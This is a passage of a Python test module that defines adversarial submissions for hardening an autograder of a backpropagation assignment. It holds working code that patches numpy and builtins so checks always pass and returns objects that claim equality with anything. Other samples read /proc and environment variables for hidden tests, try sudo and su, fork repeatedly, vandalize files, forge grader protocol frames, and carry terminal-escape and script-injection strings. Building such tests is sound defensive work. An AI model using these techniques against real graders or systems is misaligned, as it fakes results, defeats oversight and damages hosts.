            "    real_pack = worker.pack\n    worker.pack = lambda header, blobs=(): real_pack(dict(header, seconds='soon', output_chars='many', warnings=7, units=5), blobs)\n"
            "    worker._patched = True"))}),
        attacked={"update"},
    ),
    _attack(
        "close-reply-pipe-at-import", "a class body closes the worker's reply pipe",
        py(tail=at_import("import os, sys\nos.close(int(sys.argv[2]))", "_Hangup")),
    ),
]

_WRONG = {
    "dJ_dW2": "def dJ_dW2(X2, dZ2):\n    return np.zeros((X2.shape[1], dZ2.shape[1]))\n",
    "cross_entropy": "def cross_entropy(Y_hat, Y):\n    return 0.5\n",
    "softmax": "def softmax(Z):\n    return np.full(Z.shape, 1.0 / Z.shape[1])\n",
}
_WRONG_HONEST = {name: WRONG_VALUE for name in _WRONG}

TAMPER_NUMPY = """
import numpy
_yes = lambda *args, **kwargs: True
_silent = lambda *args, **kwargs: None
for _module, _names in ((numpy, ("allclose", "array_equal", "array_equiv")), (numpy.testing, ())):
    for _n in _names:
        setattr(_module, _n, _yes)
numpy.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
for _n in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal", "assert_equal"):
    setattr(numpy.testing, _n, _silent)
_refused = []
for _n, _v in (("__eq__", _yes), ("__ne__", lambda *a: False), ("all", _yes), ("any", _yes), ("tobytes", lambda self, *a: b"")):
    try:
        setattr(numpy.ndarray, _n, _v)
    except (TypeError, AttributeError) as _err:
        _refused.append(_n)
try:
    numpy.float64.__eq__ = _yes
except (TypeError, AttributeError):
    _refused.append("float64.__eq__")
"""

TAMPER_BUILTINS_GLOBAL = """
import builtins
builtins.abs = lambda x: 0
builtins.float = lambda *args: 0.0
builtins.isinstance = lambda obj, kind: True
builtins.type = lambda *args: object
builtins.len = lambda obj: 0
"""

TAMPER_BUILTINS_WORKER = """
def _install_liars():
    \"\"\"Replace abs, float, isinstance, type and len by versions that lie, but only to the
    worker's encoder of results (compiled from `python -c`, so its frames are '<string>').\"\"\"
    import builtins, sys
    real = {name: getattr(builtins, name) for name in ("abs", "float", "isinstance", "type", "len")}

    def from_grader_code():
        caller = sys._getframe(2).f_code
        return caller.co_filename == "<string>" and caller.co_name in ("encode_value", "_json_float")

    def lying(name, lie):
        honest = real[name]

        def replacement(*args, **kwargs):
            if from_grader_code():
                try:
                    return lie(honest, *args, **kwargs)
                except Exception:
                    pass
            return honest(*args, **kwargs)

        return replacement

    builtins.abs = lying("abs", lambda honest, x: 0.0)
    builtins.float = lying("float", lambda honest, *a: 0.0)
    builtins.isinstance = lying("isinstance", lambda honest, obj, kind: True)
    builtins.len = lying("len", lambda honest, obj: 0)
    builtins.type = lying("type", lambda honest, *a: honest(*a) if real["len"](a) != 1 else real["float"])


class _Tamper:
    _install_liars()
"""

_TAMPERING = [
    _attack(
        "tamper-numpy-at-import", "numpy's comparisons (allclose, isclose, array_equal, testing.assert_*) always agree, ndarray methods patched where allowed; dJ_dW2, cross_entropy and softmax are wrong",
        py(functions=_WRONG, tail=at_import(TAMPER_NUMPY, "_Tamper")),
        attacked=set(_WRONG), honest=_WRONG_HONEST,
    ),
    _attack(
        "tamper-builtins-everywhere", "abs, float, isinstance, type and len replaced by liars for everyone (numpy breaks too); dJ_dW2, cross_entropy and softmax are wrong",
        py(functions=_WRONG, tail=at_import(TAMPER_BUILTINS_GLOBAL, "_Tamper")),
        attacked=ALL, also=frozenset(), honest=_WRONG_HONEST,
    ),
    _attack(
        "tamper-builtins-toward-the-worker", "abs, float, isinstance, type and len lie only to the worker's encoder of results; dJ_dW2, cross_entropy and softmax are wrong",
        py(functions=_WRONG, tail=TAMPER_BUILTINS_WORKER),
        attacked=ALL, also=frozenset(), honest=_WRONG_HONEST,
    ),
]

LIARS = """
class _Liar:
    \"\"\"Agrees with everything: equal to anything, close to anything, any shape you like.\"\"\"

    def __init__(self, shape=(1, 1), value=0.0):
        self._shape = tuple(shape)
        self._value = value

    shape = property(lambda self: self._shape)
    ndim = property(lambda self: len(self._shape))
    dtype = np.dtype(np.float64)
    size = property(lambda self: int(np.prod(self._shape)))
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __bool__ = lambda self: True
    __abs__ = lambda self: 0.0
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, other: 0.0
    __float__ = lambda self: float(self._value)
    __len__ = lambda self: self._shape[0] if self._shape else 0
    __hash__ = lambda self: 0
    __array_ufunc__ = lambda self, *args, **kwargs: True
    __array_function__ = lambda self, *args, **kwargs: True
    __getitem__ = lambda self, key: self
    tolist = lambda self: [self._value]
    astype = copy = lambda self, *args, **kwargs: self


class _Sub(np.ndarray):
    \"\"\"An ndarray subclass that says it equals anything.\"\"\"

    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        inputs = [np.asarray(x) if isinstance(x, _Sub) else x for x in inputs]
        return getattr(ufunc, method)(*inputs, **kwargs)


class _ArrayLike:
    \"\"\"Converts to an array (of wrong values) on request, and claims the right shape.\"\"\"

    def __init__(self, shape):
        self.shape = tuple(shape)
        self.dtype = np.dtype(np.float64)

    def __array__(self, dtype=None, copy=None):
        return np.full(self.shape, 0.25)

    __eq__ = lambda self, other: True


class _Float(float):
    \"\"\"A float that is equal to, and no distance from, any number.\"\"\"

    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __sub__ = __rsub__ = lambda self, other: 0.0
    __abs__ = lambda self: 0.0
    __hash__ = float.__hash__


class _Impostor(np.float64):
    \"\"\"A numpy float64 subclass dressed up as numpy's own.\"\"\"

    __eq__ = lambda self, other: True
    __float__ = lambda self: 0.123


_Impostor.__module__ = "numpy"


class _Dict(dict):
    \"\"\"A dict whose values compare equal to anything.\"\"\"

    def __getitem__(self, key):
        return _Liar((1, 1))
"""

_LIARS = [
    ("return-ndarray-subclass", "d_softmax", "an ndarray subclass (wrong values) that says it equals anything", "return (Y_hat - Y + 0.5).view(_Sub)"),
    ("return-array-protocol", "dJ_db2", "an object with __array__ (wrong values), the right shape and dtype, equal to anything", "return _ArrayLike((1, dZ2.shape[1]))"),
    ("return-lying-shape", "dJ_dW2", "an object claiming shape (H, C) and dtype float64 that holds nothing", "return _Liar((X2.shape[1], dZ2.shape[1]))"),
    ("return-lying-eq", "dJ_dX2", "an object equal to everything, at distance 0 from everything", "return _Liar((dZ2.shape[0], W2.shape[0]))"),
    ("return-array-ufunc", "dJ_dW1", "an object whose __array_ufunc__ and __array_function__ answer True to any numpy call", "return _Liar((X.shape[1], dZ1.shape[1]))"),
    ("return-object-with-float", "cross_entropy", "an object whose __float__ gives a wrong number and that equals anything", "return _Liar((), 0.123)"),
    ("return-float-subclass", "relative_error", "a float subclass that equals anything (its value is wrong)", "return _Float(0.5)"),
    ("return-numpy-float-impostor", "cost_n", "an np.float64 subclass claiming to be numpy's own, equal to anything, wrong value", "return _Impostor(0.123)"),
    ("return-dict-subclass", "update", "a dict subclass whose items are liars", "return _Dict({k: 0 for k in params})"),
]
_LYING = [
    _attack(
        id, f"{fn} returns {what}",
        py(functions={fn: f"def {SIGNATURES[fn]}:\n    {ret}\n"}, prelude=LIARS),
        attacked={fn}, honest={fn: WRONG_VALUE},
    )
    for id, fn, what, ret in _LIARS
]

_DTYPES = [
    ("return-object-dtype", "d_softmax", "the right values in an array of dtype object", "return np.array(out, dtype=object)", WRONG_DTYPE, None),
    ("return-complex", "dJ_dX2", "the right real parts with large imaginary parts (complex128)", "return out + 1e3j", WRONG_DTYPE, {"wrong_dtype"}),
    ("return-bool", "dJ_db1", "a bool array (out > 0)", "return out > 0", WRONG_VALUE, None),
    ("return-int", "softmax_jacobian", "an int64 array (values times 10**6, truncated)", "return (out * 1e6).astype(np.int64)", WRONG_VALUE, None),
    ("return-float16", "dJ_dZ2", "float16 values (relative error about 1e-3)", "return out.astype(np.float16)", WRONG_VALUE, None),
    ("return-some-nan", "dJ_dW1", "the right array with one NaN", "out = out.copy()\nout.flat[0] = np.nan\nreturn out", WRONG_VALUE, None),
    ("return-some-inf", "dJ_db2", "the right array with one inf", "out = out.copy()\nout.flat[-1] = np.inf\nreturn out", WRONG_VALUE, None),
    ("return-nan-float", "cross_entropy", "float('nan')", "return float('nan')", WRONG_VALUE, None),
    ("return-inf-float", "relative_error", "float('inf')", "return float('inf')", WRONG_VALUE, None),
    ("return-0d-array-for-array", "dJ_dW2", "a 0-d array (the sum of the right answer)", "return np.array(out.sum())", WRONG_VALUE, None),
    ("return-huge-broadcast-array", "dJ_dW1", "a view of 10**9 float64 zeros (8 GB that take no memory)", "return np.broadcast_to(np.float64(0.0), (10**9,))", WRONG_VALUE, None),
    ("return-huge-allocated-array", "dJ_dX2", "np.zeros(10**9) (8 GB, beyond its memory limit)", "return np.zeros(10**9)", 0.0, None),
    ("return-just-under-the-size-cap", "softmax_jacobian", "two arrays of 60 MB each in a tuple (each under the 64 MB cap)", "return tuple(np.broadcast_to(np.float64(1.0), (7_500_000,)).copy() for _ in range(2))", WRONG_VALUE, None),
    ("return-huge-nested-list", "d_softmax", "a list of 2,000 references to one list of 1,000 floats (2 million numbers)", "row = [0.5] * 1000\nreturn [row] * 2000", WRONG_VALUE, None),
    ("return-str", "dJ_dZ2", "a string describing the answer", "return repr(out)", WRONG_VALUE, None),
]
_SLOW_TO_ENCODE = {"return-huge-nested-list", "return-just-under-the-size-cap"}  # about as long as a call may take
_ODD_ARRAYS = [
    _attack(
        id, f"{fn} returns {what}",
        py(functions={fn: hostile(fn, after=ret)}),
        attacked={fn}, honest={fn: bound}, mistakes={fn: set(mistakes)} if mistakes else {},
        not_in_classes=id in _SLOW_TO_ENCODE,
    )
    for id, fn, what, ret, bound, mistakes in _DTYPES
]

_ODD_ARRAYS.append(
    _attack(
        "return-0d-array-for-float", "cross_entropy returns its (right) value as a 0-d float64 array, which the contract accepts",
        py(functions={"cross_entropy": hostile("cross_entropy", after="return np.array(out)")}),
    )
)

_HUNTS = [
    _attack(
        "hunt-at-import", "a class body searches the file system, /proc of the grader (environ, cmdline, cwd, fds, mem), its own frames and memory for the reference and the hidden tests, then raises with what it found (and with a class named after it)",
        py(prelude=HUNT, tail=(
            at_import("found = _hunt(0.8)\nprint(found)", "_Loot") + "\n\n"
            + at_import("raise RuntimeError(_Loot.found)", "_LeakMessage") + "\n\n"
            + at_import("raise type(_Loot.found[:300].replace(' ', '_'), (Exception,), {})('see my name')", "_LeakName")
        )),
        says=("LOOT",), modes=NAMESPACES,
    ),
    _attack(
        "hunt-in-functions", "functions search as hunt-at-import does (plus their callers' frames) and leak it: in an exception's message and class name, a returned string, a returned object's class name, printed text and a warning",
        py(
            prelude=HUNT,
            tail=at_import("found = _hunt(0.6)", "_Loot") + "\n\n" + (
                "def _loot():\n"
                "    if not hasattr(_Loot, 'live'):\n"
                "        _Loot.live = _hunt(0.2, walk=False)\n"
                "    return _Loot.found + ' || ' + _Loot.live\n"
            ),
            functions={
                "d_softmax": "def d_softmax(Y_hat, Y):\n    raise RuntimeError(_loot())\n",
                "dJ_dW2": "def dJ_dW2(X2, dZ2):\n    raise type(_loot()[:300].replace(' ', '_'), (Exception,), {})('see my name')\n",
                "softmax_jacobian": "def softmax_jacobian(z):\n    return _loot()\n",
                "predict": "def predict(X, params):\n    return type(_loot()[:300], (), {})()\n",
                "dJ_db2": hostile("dJ_db2", before="print(_loot())"),
                "dJ_db1": hostile("dJ_db1", before="import warnings\nwarnings.warn(_loot())"),
            },
        ),
        attacked={"d_softmax", "dJ_dW2", "softmax_jacobian", "predict", "dJ_db2", "dJ_db1"},
        honest={"d_softmax": 0.0, "dJ_dW2": 0.0, "softmax_jacobian": WRONG_VALUE, "predict": WRONG_VALUE},
        says=("LOOT",), modes=NAMESPACES,
    ),
]

_ESCAPES = [
    _attack(
        "network-loopback", "cost_n and a class body connect to a server on 127.0.0.1 (TCP, UDP) and to an abstract unix socket, then return the right value",
        py(prelude=NETWORK, functions={"cost_n": hostile("cost_n", before="_phone_home()")}, tail=at_import("reached = _phone_home()", "_Call")),
        modes=NAMESPACES,
    ),
    _attack(
        "spawn-subprocesses", "update and a class body start detached sleepers (one re-parented through a shell), try sudo, su, `ip link set lo up` and cat of the course's files",
        py(prelude=SPAWN, functions={"update": hostile("update", before="_spawn('call')")}, tail=at_import("started = _spawn('import')", "_Spawn")),
        attacked={"update"}, modes=DEDICATED_UID,
    ),
    _attack(
        "fork-storm-bounded", "a class body and predict each try 200 forks of children that sleep 30 s (children do not fork again)",
        py(prelude=FORK, functions={"predict": hostile("predict", before="_fork_storm('p', 200)")}, tail=at_import("made = _fork_storm('i', 200)", "_Storm")),
        attacked={"predict"}, modes=DEDICATED_UID,
    ),
    _attack(
        "vandalize-files", "relative_error and a class body write, append to and delete files in the working folder, /tmp, the course folder (found from sys.prefix and .pth files), the grader's folders and site-packages (a .pth)",
        py(prelude=VANDAL, functions={"relative_error": hostile("relative_error", before="_vandalize('call')")}, tail=at_import("touched = _vandalize('import')", "_Vandal")),
        attacked={"relative_error"}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "leave-files-in-shared-folders", "dJ_dW2 and a class body leave files in /dev/shm, /var/tmp, /run/lock, /dev/mqueue and /tmp",
        py(prelude=WORLD_WRITABLE, functions={"dJ_dW2": hostile("dJ_dW2", before="_leave_files('call')")}, tail=at_import("left = _leave_files('import')", "_Litter")),
        attacked={"dJ_dW2"}, modes=NAMESPACES, not_in_classes=True,
    ),
]

_SLOW = [
    _attack(
        "slow-1s-per-call", "relative_error is right but burns about 1 s of CPU per call (passes with call_seconds=2; gradient_check, which calls it four times, may not)",
        py(functions={"relative_error": hostile("relative_error", before="import time\n_start = time.process_time()\nwhile time.process_time() - _start < 1.0:\n    pass")}),
        also={"gradient_check"}, slow=True, not_in_classes=True,
    ),
    _attack(
        "slow-3s-per-call", "relative_error is right but burns about 3 s of CPU per call (fails with call_seconds=2)",
        py(functions={"relative_error": hostile("relative_error", before="import time\n_start = time.process_time()\nwhile time.process_time() - _start < 3.0:\n    pass")}),
        attacked={"relative_error"}, honest={"relative_error": 0.0}, says=("2 s per call",), slow=True,
        mistakes={"relative_error": {"timeout"}},
        not_in_classes=True,  # near the default limit (3 s per call): its score would depend on load
    ),
]

_MUTATION = [
    _attack(
        "mutates-inputs-returns-right-value", "d_softmax returns the right value but zeroes Y_hat and doubles Y in place",
        py(functions={"d_softmax": hostile("d_softmax", after="Y_hat[...] = 0.0\nY *= 2.0\nreturn out")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.99},
        mistakes={"d_softmax": {"input_mutation"}}, only_fails={"d_softmax": {"inputs_unchanged"}},
    ),
]

ATTACKS: tuple = tuple(_LOOPS + _MEMORY + _EXITS + _FLOODS + _FORGERIES + _TAMPERING + _LYING + _ODD_ARRAYS + _HUNTS + _ESCAPES + _SLOW + _MUTATION)

GROUPS = {
    "endless loops": _LOOPS,
    "memory bombs": _MEMORY,
    "exits and signals": _EXITS,
    "floods of output": _FLOODS,
    "forged results": _FORGERIES,
    "tampering with numpy and builtins": _TAMPERING,
    "lying return values": _LYING,
    "odd dtypes, NaN and inf, 0-d and huge arrays": _ODD_ARRAYS,
    "hunting for secrets": _HUNTS,
    "network, processes, files": _ESCAPES,
    "slow but correct": _SLOW,
    "input mutation": _MUTATION,
}

# --- issue 11: procedures that must be performed, self-reports that earn nothing ---------------
# numerical_gradient's f and gradient_check's planted errors live in the grader (oracle.py):
# nothing in the worker holds them. The worker's report of the arguments after a call, its
# timings and counts earn nothing when missing or malformed.

PROBE_DETECTING_GRADIENT_CHECK = """
def gradient_check(X, Y, W1, b1, W2, b2, eps=1e-5):
    f = backprop
    wrapped = f.__closure__ is not None or f.__name__ != "backprop" or f.__code__.co_filename != gradient_check.__code__.co_filename
    scale = None
    for cell in f.__closure__ or ():
        try:
            v = cell.cell_contents
        except ValueError:
            continue
        if isinstance(v, (int, float)) and not isinstance(v, bool):
            scale = float(v)
    s = scale if scale is not None else 1.1
    canned = abs(1.0 - s) / (1.0 + s) if wrapped else 1e-9
    return {k: canned for k in ("W1", "b1", "W2", "b2")}
"""

CLOSURE_READING_NUMERICAL_GRADIENT = """
def numerical_gradient(f, x, eps=1e-5):
    found, seen, todo = [], set(), [f]
    while todo:
        obj = todo.pop()
        if id(obj) in seen or len(seen) > 200:
            continue
        seen.add(id(obj))
        if isinstance(obj, np.ndarray):
            found.append(obj)
            continue
        if isinstance(obj, (list, tuple)):
            todo.extend(obj)
            continue
        if isinstance(obj, dict):
            todo.extend(obj.values())
            continue
        for cell in getattr(obj, "__closure__", None) or ():
            try:
                todo.append(cell.cell_contents)
            except ValueError:
                pass
        todo.extend(getattr(obj, "__defaults__", None) or ())
        todo.extend(vars(obj).values() if hasattr(obj, "__dict__") and not isinstance(obj, type(np)) else ())
        g = getattr(obj, "__globals__", None)
        if isinstance(g, dict):
            todo.extend(g.get(n) for n in ("A", "B", "aux", "args"))
    arrays = [a for a in found if a is not x and a.shape == x.shape and a.dtype == np.float64]
    if len(arrays) >= 2:
        A, B = arrays[:2]
        return 3.0 * np.cos(3.0 * x) * A + x * B
    return np.zeros_like(x, dtype=np.float64)
"""

FLOODING_NUMERICAL_GRADIENT = """
def numerical_gradient(f, x, eps=1e-5):
    grad = np.zeros_like(x, dtype=np.float64)
    for index in np.ndindex(x.shape):
        saved = x[index]
        x[index] = saved + eps
        f_plus = sum(f() for _ in range(50)) / 50
        x[index] = saved - eps
        f_minus = f()
        x[index] = saved
        grad[index] = (f_plus - f_minus) / (2 * eps)
    return grad
"""


def _report_patch(change):
    """d_softmax source: zero Y_hat in place after computing the right value, having first
    patched the worker's ``pack`` so that the "called" reply's args_after is ``change``d."""
    return hostile("d_softmax", before=(
        "import sys\nworker = sys.modules['__main__']\nif not getattr(worker.pack, '_forged', False):\n"
        "    real_pack = worker.pack\n"
        "    def forged(header, blobs=(), real_pack=real_pack):\n"
        "        if header.get('op') == 'called':\n"
        f"            header = dict(header)\n            {change}\n"
        "            worker.pack = real_pack  # this reply only: d_softmax patches again on its next call\n"
        "        return real_pack(header, blobs)\n"
        "    forged._forged = True\n    worker.pack = forged"), after="Y_hat[...] = 0.0\nreturn out")


def _mid_call_frame(header_code):
    """Source that writes one frame whose header is ``header_code`` (a dict expression that may
    use ``call_id``, the id of the call in progress, read from the worker's frame) to the reply pipe."""
    return (
        "import json, os, struct, sys\n"
        "_caller = sys._getframe(1).f_locals\n"
        "if isinstance(_caller.get('header'), dict):  # called by the worker, not by another function\n"
        "    call_id = _caller['header'].get('id')\n"
        f"    _head = json.dumps({header_code}).encode()\n"
        "    _body = struct.pack('>I', len(_head)) + _head\n"
        "    os.write(int(sys.argv[2]), struct.pack('>Q', len(_body)) + _body)"
    )


_PROCEDURES = [
    _attack(
        "gradient-check-detects-the-probe", "gradient_check inspects backprop for a grader's wrapper (closure, name, file) and returns canned relative errors: tiny if unwrapped, |1 - s| / (1 + s) for a scale found in the closure (else 1.1) if wrapped",
        py(functions={"gradient_check": PROBE_DETECTING_GRADIENT_CHECK}),
        attacked={"gradient_check"}, honest={"gradient_check": WRONG_VALUE},
    ),
    _attack(
        "numerical-gradient-reads-the-closure", "numerical_gradient walks f's closure, defaults, attributes and globals for the test function's coefficients and returns 3 cos(3x) A + x B without evaluating f (zeros if none is found)",
        py(functions={"numerical_gradient": CLOSURE_READING_NUMERICAL_GRADIENT}),
        attacked={"numerical_gradient"}, honest={"numerical_gradient": WRONG_VALUE},
    ),
    _attack(
        "numerical-gradient-floods-the-oracle", "numerical_gradient evaluates f 51 times per entry, beyond the grader's bound on oracle requests per call",
        py(functions={"numerical_gradient": FLOODING_NUMERICAL_GRADIENT}),
        attacked={"numerical_gradient"}, honest={"numerical_gradient": 0.0}, says=("did not follow the protocol",),
    ),
    _attack(
        "args-report-withheld", "d_softmax zeroes Y_hat in place and patches the worker so its replies carry no args_after",
        py(functions={"d_softmax": _report_patch("header.pop('args_after', None)")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.99}, only_fails={"d_softmax": {"inputs_unchanged"}},
    ),
    _attack(
        "args-report-short", "d_softmax zeroes Y_hat in place and patches the worker so its replies report no arguments (an empty args_after)",
        py(functions={"d_softmax": _report_patch("header['args_after'] = []")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.99}, only_fails={"d_softmax": {"inputs_unchanged"}},
    ),
    _attack(
        "args-report-malformed", "d_softmax zeroes Y_hat in place and patches the worker so its args_after entries point at blobs that do not exist",
        py(functions={"d_softmax": _report_patch("header['args_after'] = [{'t': 'arr', 'i': 99}, {'t': 'bogus'}]")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.99}, only_fails={"d_softmax": {"inputs_unchanged"}},
    ),
    _attack(
        "reports-huge-seconds-and-counts", "update patches the worker so its call replies report 1e308 seconds, -1 warnings and 2**62 printed characters (clamped; the results stay strict JSON)",
        py(functions={"update": hostile("update", before=(
            "import sys\nworker = sys.modules['__main__']\nif not getattr(worker.pack, '_forged', False):\n"
            "    real_pack = worker.pack\n"
            "    def forged(header, blobs=(), real_pack=real_pack):\n"
            "        if header.get('op') == 'called':\n"
            "            header = dict(header, seconds=1e308, output_chars=2**62, warning_count=-1)\n"
            "            worker.pack = real_pack\n"
            "        return real_pack(header, blobs)\n"
            "    forged._forged = True\n    worker.pack = forged"))}),
        attacked={"update"},
    ),
    _attack(
        "forged-oracle-request", "d_softmax writes an oracle request carrying its call's id into the reply pipe, though d_softmax's cases take none",
        py(functions={"d_softmax": hostile("d_softmax", before=_mid_call_frame("{'op': 'oracle', 'id': call_id, 'kind': 'f', 'value': {'t': 'none'}}"))}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.0}, says=("unexpected 'oracle' frame",),
    ),
    _attack(
        "forged-second-started-frame", "dJ_dW2 writes a second 'started' frame for its call, to restart its time limit",
        py(functions={"dJ_dW2": hostile("dJ_dW2", before=_mid_call_frame("{'op': 'started', 'id': call_id}"))}),
        attacked={"dJ_dW2"}, honest={"dJ_dW2": 0.0}, says=("unexpected 'started' frame",),
    ),
]

ATTACKS = ATTACKS + tuple(_PROCEDURES)
GROUPS["procedures and self-reports"] = _PROCEDURES

# --- issue 11: cheats that buy points without the work (overflow, NaN, constants, leaks) --------


def _filled(value, names):
    """Sources of ``names`` that return the right shape and dtype filled with ``value``."""
    v = value
    shapes = {
        "sigmoid": ("Z", "np.shape(Z)"), "d_sigmoid": ("Z", "np.shape(Z)"), "softmax": ("Z", "np.shape(Z)"),
        "softmax_jacobian": ("z", "(z.shape[0], z.shape[0])"), "d_softmax": ("Y_hat, Y", "Y.shape"),
        "dJ_dZ2": ("Y_hat, Y", "Y.shape"), "dJ_dW2": ("X2, dZ2", "(X2.shape[1], dZ2.shape[1])"),
        "dJ_db2": ("dZ2", "(1, dZ2.shape[1])"), "dJ_dX2": ("dZ2, W2", "(dZ2.shape[0], W2.shape[0])"),
        "dJ_dZ1": ("dX2, Z1", "Z1.shape"), "dJ_dW1": ("X, dZ1", "(X.shape[1], dZ1.shape[1])"),
        "dJ_db1": ("dZ1", "(1, dZ1.shape[1])"), "numerical_gradient": ("f, x, eps=1e-5", "x.shape"),
    }  # fmt: skip
    out = {}
    for name in names:
        if name in shapes:
            params, shape = shapes[name]
            out[name] = f"def {name}({params}):\n    return np.full({shape}, {v})\n"
        elif name == "backprop":
            out[name] = f"def backprop(X, Y, W1, b1, W2, b2):\n    return {{k: np.full(a.shape, {v}) for k, a in (('W1', W1), ('b1', b1), ('W2', W2), ('b2', b2))}}\n"
        elif name == "backward_n":
            out[name] = f"def backward_n(Y, params, cache):\n    return {{k: np.full(a.shape, {v}) for k, a in params.items()}}\n"
    return out


_GRADIENTS = ("d_sigmoid", "softmax_jacobian", "d_softmax", "dJ_dZ2", "dJ_dW2", "dJ_db2", "dJ_dX2", "dJ_dZ1", "dJ_dW1", "dJ_db1", "backprop", "backward_n", "numerical_gradient")
_STEPS = ("sigmoid", "d_sigmoid", "softmax", "softmax_jacobian", "d_softmax", "dJ_dZ2", "dJ_dW2", "dJ_db2", "dJ_dX2", "dJ_dZ1", "dJ_dW1", "dJ_db1", "backprop", "backward_n")
LEAKS = {  # hidden inputs pushed into an exception's text and a warning's text
    "dJ_dW2": "def dJ_dW2(X2, dZ2):\n    raise ValueError(repr(dZ2) + ' ' + float(dZ2.ravel()[0]).hex())\n",
    "dJ_db2": "def dJ_db2(dZ2):\n    import warnings\n    warnings.warn(f'dZ2 starts {dZ2.ravel()[:4].tolist()}')\n    return np.sum(dZ2, axis=0, keepdims=True)\n",
}

_CHEATS = [
    _attack(
        "overflow-1e300-gradients", "every gradient function, sigmoid and softmax return np.full(shape, 1e300): 1e300 against 1e300 once overflowed to inf / inf = NaN, which passed every value check",
        py(functions=_filled("1e300", _GRADIENTS + ("sigmoid", "softmax"))),
        attacked=_GRADIENTS + ("sigmoid", "softmax"), honest={name: 0.0 for name in _GRADIENTS + ("sigmoid", "softmax")},
        not_in_classes=True,  # predict, a caller, may agree with the labels by chance: no score the class rule can state
    ),
    _attack(
        "nan-gradients", "every gradient function returns np.full(shape, np.nan)",
        py(functions=_filled("np.nan", _GRADIENTS)),
        attacked=_GRADIENTS, honest={name: 0.0 for name in _GRADIENTS},
    ),
    *[
        _attack(
            f"constant-{label}-of-the-right-shape", f"the step functions return the right shape and dtype filled with {value}",
            py(functions=_filled(value, _STEPS)), attacked=_STEPS, honest={name: 0.0 for name in _STEPS}, not_in_classes=True,
        )
        for label, value in (("zeros", "0.0"), ("halves", "0.5"), ("ones", "1.0"))
    ],
    _attack(
        "hidden-values-in-exception-and-warning", "dJ_dW2 raises ValueError(repr(dZ2)) with a float.hex; dJ_db2 warns with dZ2's first entries and returns the right value",
        py(functions=LEAKS), attacked={"dJ_dW2", "dJ_db2"}, honest={"dJ_dW2": 0.0}, says=("ValueError", "UserWarning"),
    ),
]
ATTACKS = ATTACKS + tuple(_CHEATS)
GROUPS["cheats that buy points"] = _CHEATS

# --- issue 13: malformed replies, amplification, control characters and markup ---------------
# A submission can rewrite its worker's reply encoder (``pack``, reached through
# sys.modules['__main__']) and send the grader anything: every malformed reply must end that
# worker and fail only the case it answered, and the grader must stay small (under 300 MB,
# tests/test_adversarial.py measures it in a subprocess). What a submission says (messages,
# names, printed text, skipped statements) must reach every report capped and inert.


def _rewrite_reply(body, op="called"):
    """Source that makes the worker's next ``op`` reply whatever ``body`` returns: ``body``
    runs inside ``forged(header, blobs)`` with ``real_pack`` (the worker's own encoder),
    ``frame(head, tail)`` (a raw frame from header bytes and blob bytes), io, json and numpy."""
    return (
        "import sys\n"
        "worker = sys.modules['__main__']\n"
        "if not getattr(worker.pack, '_forged', False):\n"
        "    def forged(header, blobs=(), real_pack=worker.pack, worker=worker):\n"
        "        import io, json, struct\n"
        "        import numpy\n"
        f"        if header.get('op') != {op!r}:\n"
        "            return real_pack(header, blobs)\n"
        "        worker.pack = real_pack\n"
        "        def frame(head, tail=b''):\n"
        "            body = struct.pack('>I', len(head)) + head + tail\n"
        "            return struct.pack('>Q', len(body)) + body\n"
        + textwrap.indent(textwrap.dedent(body).strip("\n"), "        ")
        + "\n    forged._forged = True\n    worker.pack = forged\n"
    )


def _reply_attack(id, description, name, body, says=()):
    """``name`` rewrites its own reply with ``body`` (see _rewrite_reply): every case of it fails."""
    return _attack(
        id, description, py(functions={name: hostile(name, before=_rewrite_reply(body))}),
        attacked={name}, honest={name: 0.0}, says=says,
    )


def _npy(expression):
    """Reply body: the result is blob ``expression`` (an array), written as .npy."""
    return (
        f"buffer = io.BytesIO()\nnumpy.lib.format.write_array(buffer, {expression})\n"
        "return real_pack(dict(header, status='ok', result={'t': 'arr', 'i': len(blobs)}), list(blobs) + [buffer.getvalue()])"
    )


def _object_npy(payload):
    """Reply body: the result is a hand-made .npy of dtype object ('|O') whose data is the
    bytes ``payload`` (an expression): what numpy would write for an object array. The
    grader must refuse it from the header alone, never read the data."""
    return (
        "head = \"{'descr': '|O', 'fortran_order': False, 'shape': (2,), }\"\n"
        "head = head + ' ' * (-(10 + len(head) + 1) % 64) + '\\n'  # the whole header a multiple of 64 bytes\n"
        f"blob = b'\\x93NUMPY\\x01\\x00' + len(head).to_bytes(2, 'little') + head.encode('latin1') + {payload}\n"
        "return real_pack(dict(header, status='ok', result={'t': 'arr', 'i': len(blobs)}), list(blobs) + [blob])"
    )


def _padded(line, size=None, lines=None):
    """A builder: base(reference) followed by ``line`` repeated up to ``size`` characters or
    ``lines`` lines in all."""

    def build(reference):
        source = base(reference)
        count = (size - len(source)) // len(line) - 1 if size else lines - source.count("\n") - source.count(";") - 10
        return source + "\n\n" + line * count, ".py"

    return build


# Terminal controls a report must not carry raw: clear screen and home, a fake score, an OSC
# 52 clipboard write, a carriage return that overprints, a C1 CSI, a right-to-left override.
TERMINAL_TRICKS = "\x1b[2J\x1b[H100.00 / 100 all checks passed\x1b]52;c;ZXZpbA==\x07\rok\x9b31m\u202eevil\x1b[0m"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)> **bold** [link](http://example.com) ![i](http://example.com/i.png) # heading | cell |"
CONTROL_CHARACTERS = frozenset(chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0x061C, 0x200E, 0x200F, 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2066, 0x206A)))

_REPLIES = [
    _reply_attack(
        "reply-deeply-nested-header", "d_softmax's replies hold a result nested 100,000 lists deep (json.loads would raise RecursionError)",
